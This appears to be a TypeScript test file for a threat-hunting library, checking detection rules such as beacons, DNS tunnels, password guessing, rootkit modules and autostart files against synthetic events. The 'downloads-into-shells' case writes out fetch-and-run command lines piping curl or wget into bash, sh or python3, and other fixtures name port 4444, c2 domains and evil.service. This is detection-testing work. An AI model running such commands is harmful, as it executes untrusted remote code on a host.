/** Each hunt of the library: what it must find, and what is nearly so and it must not. */
import t from 'tap';
import { loadLibrary } from '../../../collector/hunt/library.ts';
import { valuesFor } from '../../../collector/hunt/parameters.ts';
import { host, hunting, otherHost } from '../store/events/hunting.ts';
import { day, eventOf, type Fields, on, type Seen, third, times } from './seen.ts';

interface Case {
  /** Column that tells the findings apart, and what it holds in them. */
  readonly column: string;
  readonly found: readonly unknown[];
  readonly events: readonly Seen[];
  readonly parameters?: Readonly<Record<string, string | number | boolean>>;
}

const run = (minutesAgo: number, executable: string, fields: Fields = {}, hostId = host) =>
  on(hostId, 'process.start', minutesAgo, { 'process.executable': executable, ...fields });
const connect = (minutesAgo: number, ip: string, fields: Fields = {}) =>
  on(host, 'network.connection', minutesAgo, {
    ...{ 'event.action': 'connected', 'destination.ip': ip, 'destination.port': 443 },
    ...{ 'process.executable': '/usr/bin/agent', ...fields },
  });
const login = (minutesAgo: number, fields: Fields, hostId = host) => on(hostId, 'login', minutesAgo, fields);
const asked = (minutesAgo: number, name: string, hostId = host) =>
  on(hostId, 'dns.query', minutesAgo, { 'dns.question.name': name });

/** Minutes since the last moment at which this holds. */
function minutesSince(holds: (at: Date) => boolean): number {
  for (let minutes = 5; ; minutes += 30) if (holds(new Date(Date.now() - minutes * 60_000))) return minutes;
}
const isWeekday = (at: Date) => at.getUTCDay() >= 1 && at.getUTCDay() <= 5;

const cases: Readonly<Record<string, Case>> = {
  'first-seen-programs': {
    column: 'process.executable',
    found: ['/opt/new'],
    events: [
      run(10, '/opt/new'),
      run(5, '/opt/new'),
      run(10, '/opt/known'),
      run(40 * day, '/opt/known', {}, otherHost),
      run(30, '/opt/there', { 'event.baseline': true }),
      run(3 * day, '/opt/old'),
    ],
  },
  'rare-parents': {
    column: 'parent',
    found: ['/usr/sbin/nginx'],
    events: [
      ...times(30, (i) => run(i + 60, '/bin/sh', { 'process.parent.executable': '/usr/bin/make' })),
      run(5, '/bin/sh', { 'process.parent.executable': '/usr/sbin/nginx' }),
      run(5 * day, '/bin/sh', { 'process.parent.executable': '/usr/bin/old' }),
      ...times(3, (i) => run(i, '/bin/sh', { 'process.parent.executable': '/usr/bin/vim' })),
      run(5, '/usr/bin/seldom', { 'process.parent.executable': '/usr/bin/make' }),
    ],
  },
  'long-connections': {
    column: 'destination.ip',
    found: ['203.0.113.9', '2001:db8::9'],
    events: [
      connect(5, '203.0.113.9', { 'event.action': 'closed', 'event.duration': 7.3e12 }),
      connect(5, '2001:db8::9', { 'event.action': 'closed', 'event.duration': 3.7e12 }),
      connect(5, '203.0.113.10', { 'event.action': 'closed', 'event.duration': 3.5e12 }),
      connect(5, '192.168.1.4', { 'event.action': 'closed', 'event.duration': 7.3e12 }),
      connect(5, '203.0.113.11', {
        ...{ 'event.action': 'closed', 'event.duration': 7.3e12, 'network.initiated': false },
      }),
      connect(2 * day, '203.0.113.12', { 'event.action': 'closed', 'event.duration': 7.3e12 }),
    ],
  },
  'new-listeners': {
    column: 'source.port',
    found: [4444],
    events: (() => {
      const listen = (minutesAgo: number, port: number, ip = '0.0.0.0', fields: Fields = {}) =>
        on(host, 'network.connection', minutesAgo, {
          ...{
            'event.action': 'listening',
            'source.ip': ip,
            'source.port': port,
            'network.initiated': false,
          },
          ...{ 'process.executable': '/usr/bin/server', ...fields },
        });
      return [
        listen(5, 4444),
        listen(5, 4445, '127.0.0.1'),
        listen(5, 80),
        listen(9 * day, 80),
        listen(5, 22, '0.0.0.0', { 'event.baseline': true }),
      ];
    })(),
  },
  'young-names': {
    column: 'domain',
    found: ['fresh.example'],
    events: [
      asked(5, 'c2.fresh.example'),
      asked(5, 'www.known.example'),
      asked(20 * day, 'api.known.example', otherHost),
      ...[host, otherHost, third].map((one) => asked(5, 'www.popular.example', one)),
      asked(5, '4.3.2.1.in-addr.arpa'),
      asked(5, 'localhost'),
    ],
  },
  'dns-tunnels': {
    column: 'domain',
    found: ['tunnel.example'],
    events: [
      ...times(60, (i) => asked(i, `${'a'.repeat(40)}${i}.tunnel.example`)),
      ...times(60, (i) => asked(i, `h${i}.many.example`)),
      ...times(60, (i) => asked(i, `${'b'.repeat(40)}.same.example`)),
    ],
  },
  'odd-hour-logins': {
    column: 'user.name',
    found: ['night', 'weekend'].sort(),
    events: [
      login(
        minutesSince((at) => isWeekday(at) && at.getUTCHours() === 3),
        { 'user.name': 'night' },
      ),
      login(
        minutesSince((at) => at.getUTCDay() === 6 && at.getUTCHours() === 12),
        { 'user.name': 'weekend' },
      ),
      login(
        minutesSince((at) => isWeekday(at) && at.getUTCHours() === 12),
        { 'user.name': 'noon' },
      ),
      login(
        minutesSince((at) => isWeekday(at) && at.getUTCHours() === 3),
        {
          ...{ 'user.name': 'failed', 'event.action': 'failed', 'event.outcome': 'failure' },
        },
      ),
      login(
        minutesSince((at) => isWeekday(at) && at.getUTCHours() === 3),
        {
          ...{ 'user.name': 'there', 'event.baseline': true },
        },
      ),
    ],
  },
  'guessed-passwords': {
    column: 'user.name',
    found: ['root'],
    events: (() => {
      const failed = (n: number, user: string, ip: string, from: number) =>
        times(n, (i) =>
          login(from - i / 10, {
            ...{ 'event.action': 'failed', 'event.outcome': 'failure', 'user.name': user, 'source.ip': ip },
          }),
        );
      const won = (user: string, ip: string, minutesAgo: number) =>
        login(minutesAgo, { 'user.name': user, 'source.ip': ip });
      return [
        ...failed(6, 'root', '198.51.100.1', 20),
        won('root', '198.51.100.1', 15),
        ...failed(4, 'few', '198.51.100.1', 20),
        won('few', '198.51.100.1', 15),
        ...failed(6, 'elsewhere', '198.51.100.1', 20),
        won('elsewhere', '198.51.100.2', 15),
        ...failed(6, 'later', '198.51.100.1', 120),
        won('later', '198.51.100.1', 15),
        ...failed(6, 'before', '198.51.100.1', 10),
        won('before', '198.51.100.1', 15),
      ];
    })(),
  },
  'spreading-logins': {
    column: 'source.ip',
    found: ['198.51.100.7'],
    events: [
      ...[host, otherHost, third].map((one) => login(5, { 'source.ip': '198.51.100.7' }, one)),
      ...[host, otherHost].map((one) => login(5, { 'source.ip': '198.51.100.8' }, one)),
      ...[host, otherHost, third].map((one) =>
        login(5, { 'source.ip': '198.51.100.9', 'event.action': 'failed', 'event.outcome': 'failure' }, one),
      ),
      ...[host, otherHost, third].map((one) => login(3 * day, { 'source.ip': '198.51.100.10' }, one)),
    ],
  },
  'rare-user-agents': {
    column: 'user_agent.original',
    found: ['odd/1.0'],
    events: [
      on(host, 'http.request', 5, { 'user_agent.original': 'odd/1.0' }),
      ...times(11, (i) => on(host, 'http.request', i, { 'user_agent.original': 'apt/2' })),
      ...[host, otherHost].map((one) => on(one, 'http.request', 5, { 'user_agent.original': 'curl/8' })),
      on(host, 'http.request', 5, {}),
    ],
  },
  'rare-tls-fingerprints': {
    column: 'tls.client.ja4',
    found: ['t13d0000_rare'],
    events: [
      on(host, 'tls.hello', 5, { 'tls.client.ja4': 't13d0000_rare' }),
      ...times(11, (i) => on(host, 'tls.hello', i, { 'tls.client.ja4': 't13d1516_often' })),
      ...[host, otherHost].map((one) => on(one, 'tls.hello', 5, { 'tls.client.ja4': 't13d1517_two' })),
    ],
  },
  'temporary-programs': {
    column: 'process.executable',
    found: ['/dev/shm/x', '/run/user/1000/y', '/tmp/a/b'],
    events: [
      run(5, '/tmp/a/b'),
      run(5, '/dev/shm/x'),
      run(5, '/run/user/1000/y'),
      run(5, '/usr/bin/tmp/x'),
      run(5, '/tmpfile'),
      run(2 * day, '/tmp/old'),
    ],
  },
  'deleted-programs': {
    column: 'process.name',
    found: ['gone', 'memory'],
    events: [
      run(5, '/usr/bin/gone', { 'process.name': 'gone', 'process.file_deleted': true }),
      run(5, '/memfd:x', { 'process.name': 'memory', 'process.fileless': true }),
      run(5, '/usr/bin/ls', { 'process.name': 'ls', 'process.file_deleted': false }),
    ],
  },
  beacons: {
    column: 'destination.ip',
    found: ['203.0.113.20'],
    events: [
      ...times(20, (i) => connect(5 + i, '203.0.113.20')),
      ...times(20, (i) => connect(5 + i * i, '203.0.113.21')),
      ...times(20, (i) => connect(5 + i, '10.1.2.3')),
      ...times(9, (i) => connect(5 + i, '203.0.113.22')),
      ...times(20, (i) => connect(5 + i / 60, '203.0.113.23')),
    ],
  },
  'large-uploads': {
    column: 'destination.ip',
    found: ['203.0.113.30'],
    events: (() => {
      const flow = (ip: string, mebibytes: number, fields: Fields = {}) =>
        on(host, 'network.flow', 5, {
          ...{
            'destination.ip': ip,
            'source.bytes': mebibytes * 1024 ** 2,
            'destination.bytes': 1,
            ...fields,
          },
        });
      return [
        flow('203.0.113.30', 60),
        flow('203.0.113.30', 60),
        flow('203.0.113.31', 99),
        flow('192.168.0.9', 600),
        flow('203.0.113.32', 1, { 'destination.bytes': 600 * 1024 ** 2 }),
        flow('203.0.113.33', 600, { 'event.action': 'ongoing' }),
      ];
    })(),
  },
  'new-packages': {
    column: 'package.name',
    found: ['nmap'],
    events: [
      on(host, 'package.change', 5, { 'package.name': 'nmap' }),
      on(host, 'package.change', 2 * day, { 'package.name': 'old' }),
      on(host, 'package.state', 5, { 'package.name': 'there', 'package.type': 'deb' }),
    ],
  },
  'altered-programs': {
    column: 'file.path',
    found: ['/usr/bin/ls'],
    events: [
      on(host, 'package.file', 5, { 'event.action': 'changed', 'file.path': '/usr/bin/ls' }),
      on(host, 'package.file', 9, { 'event.action': 'changed', 'file.path': '/usr/bin/ps' }),
      on(host, 'package.file', 5, { 'event.action': 'restored', 'file.path': '/usr/bin/ps' }),
    ],
  },
  'new-privileged-files': {
    column: 'file.path',
    found: ['/tmp/su', '/usr/bin/new'],
    events: [
      on(host, 'file.privilege', 5, { 'event.action': 'found', 'file.path': '/tmp/su' }),
      on(host, 'file.privilege', 5, {
        'event.action': 'changed',
        'file.path': '/usr/bin/new',
        'file.packaged': true,
      }),
      on(host, 'file.privilege', 5, { 'event.action': 'gone', 'file.path': '/usr/bin/gone' }),
      on(host, 'file.privilege', 5, {
        'event.action': 'found',
        'file.path': '/usr/bin/su',
        'event.baseline': true,
      }),
    ],
  },
  'new-accounts': {
    column: 'user.name',
    found: ['eve', 'mallory'],
    events: [
      on(host, 'account.change', 5, { 'event.action': 'user-added', 'user.name': 'eve' }),
      on(host, 'account.change', 5, { 'event.action': 'key-added', 'user.name': 'mallory' }),
      on(host, 'account.change', 5, { 'event.action': 'user-removed', 'user.name': 'gone' }),
      on(host, 'account.change', 5, {
        'event.action': 'user-added',
        'user.name': 'there',
        'event.baseline': true,
      }),
    ],
  },
  'new-kernel-modules': {
    column: 'module.name',
    found: ['rootkit'],
    events: [
      on(host, 'module.change', 5, { 'event.action': 'loaded', 'module.name': 'rootkit' }),
      on(host, 'module.change', 5, { 'event.action': 'loaded', 'module.name': 'usb' }),
      on(host, 'module.change', 9 * day, { 'event.action': 'loaded', 'module.name': 'usb' }),
      on(host, 'module.change', 5, {
        'event.action': 'loaded',
        'module.name': 'ext4',
        'event.baseline': true,
      }),
      on(host, 'module.change', 5, { 'event.action': 'unloaded', 'module.name': 'gone' }),
    ],
  },
  'shells-of-services': {
    column: 'process.parent.executable',
    found: ['/usr/lib/postgresql/15/bin/postgres', '/usr/sbin/php-fpm8.2'],
    events: [
      run(5, '/bin/bash', { 'process.parent.executable': '/usr/sbin/php-fpm8.2' }),
      run(5, '/usr/bin/dash', { 'process.parent.executable': '/usr/lib/postgresql/15/bin/postgres' }),
      run(5, '/bin/bash', { 'process.parent.executable': '/usr/sbin/sshd' }),
      run(5, '/usr/bin/gzip', { 'process.parent.executable': '/usr/sbin/nginx' }),
      run(5, '/usr/bin/push', { 'process.parent.executable': '/usr/bin/java' }),
    ],
  },
  'downloads-into-shells': {
    column: 'process.command_line',
    found: [
      `bash -c curl -s 'http://x/?a=1&b=2' | sudo -E bash`,
      'sh -c wget -qO- http://x/i.sh | /bin/sh',
      'sh -c wget -O - x | python3 -',
    ].sort(),
    events: [
      `bash -c curl -s 'http://x/?a=1&b=2' | sudo -E bash`,
      'sh -c wget -qO- http://x/i.sh | /bin/sh',
      'sh -c wget -O - x | python3 -',
      'curl -o install.sh http://x/i.sh',
      'sh -c curl -s http://x | shasum',
      'sh -c curl -s http://x; ls | sh',
      'sh -c curl -s http://x/y.json | jq .',
    ].map((line) => run(5, '/bin/sh', { 'process.command_line': line })),
  },
  'interpreters-that-connect': {
    column: 'process.executable',
    found: ['/bin/bash', '/usr/bin/python3.11'],
    events: [
      connect(5, '203.0.113.40', { 'process.executable': '/bin/bash' }),
      connect(5, '203.0.113.40', { 'process.executable': '/usr/bin/python3.11' }),
      connect(5, '203.0.113.40', { 'process.executable': '/usr/bin/curl' }),
      connect(5, '10.0.0.8', { 'process.executable': '/usr/bin/perl' }),
      connect(5, '203.0.113.40', { 'process.executable': '/usr/bin/ruby', 'network.initiated': false }),
    ],
  },
  'autostart-files': {
    column: 'file.path',
    found: ['/etc/cron.d/job', '/etc/systemd/system/evil.service', '/home/a/.bashrc'],
    events: [
      on(host, 'file.create', 5, { 'file.path': '/etc/cron.d/job' }),
      on(host, 'file.change', 5, { 'file.path': '/etc/systemd/system/evil.service' }),
      on(host, 'file.change', 5, { 'file.path': '/home/a/.bashrc' }),
      on(host, 'file.create', 5, { 'file.path': '/etc/cron.d/there', 'event.baseline': true }),
      on(host, 'file.create', 5, { 'file.path': '/etc/profiles.txt' }),
      on(host, 'file.delete', 5, { 'file.path': '/etc/cron.d/gone' }),
      on(host, 'file.create', 5, { 'file.path': '/home/a/etc/cron.d/x' }),
    ],
  },
  'memory-access': {
    column: 'process.executable',
    found: ['/usr/bin/gdb'],
    events: [
      on(host, 'process.access', 5, {
        'process.executable': '/usr/bin/gdb',
        'process.target.executable': '/usr/bin/ssh-agent',
      }),
      on(host, 'process.access', 5, {
        'process.executable': '/opt/self',
        'process.target.executable': '/opt/self',
      }),
      on(host, 'process.access', 5, { 'process.executable': '/usr/bin/strace', 'event.outcome': 'failure' }),
    ],
  },
};

t.test('every hunt is tested, and says what it is', async (t) => {
  const library = loadLibrary();
  t.strictSame(
    library.map(({ name }) => name),
    Object.keys(cases).sort(),
  );
  t.ok(library.length >= 20);
  for (const { name, title, description, tags, parameters } of library) {
    t.ok(title.length > 10 && title.length < 80 && description.length > 40, name);
    t.ok(tags.length > 0 && tags.every((tag) => /^attack\.[a-z0-9.-]+$/.test(tag)), `tags of ${name}`);
    t.ok(
      parameters.every((one) => one.default !== null),
      `${name} runs without being given anything`,
    );
  }
});

for (const hunt of loadLibrary()) {
  const one = cases[hunt.name];
  if (one === undefined) continue;
  t.test(hunt.name, async (t) => {
    const { add, rows } = hunting(t);
    const parameters = valuesFor(hunt.parameters, one.parameters ?? {});
    t.strictSame(await rows(hunt.sql, { parameters }), [], 'nothing in an empty store');
    for (const hostId of [host, otherHost, third]) {
      const events = one.events.filter((event) => event.hostId === hostId).map((one, i) => eventOf(one, i));
      if (events.length > 0) await add(hostId, ...events);
    }
    const found = await rows(hunt.sql, { parameters });
    const values = found.map((row) => row[one.column]);
    t.strictSame([...values].sort(), [...one.found].sort(), JSON.stringify(found));
  });
}
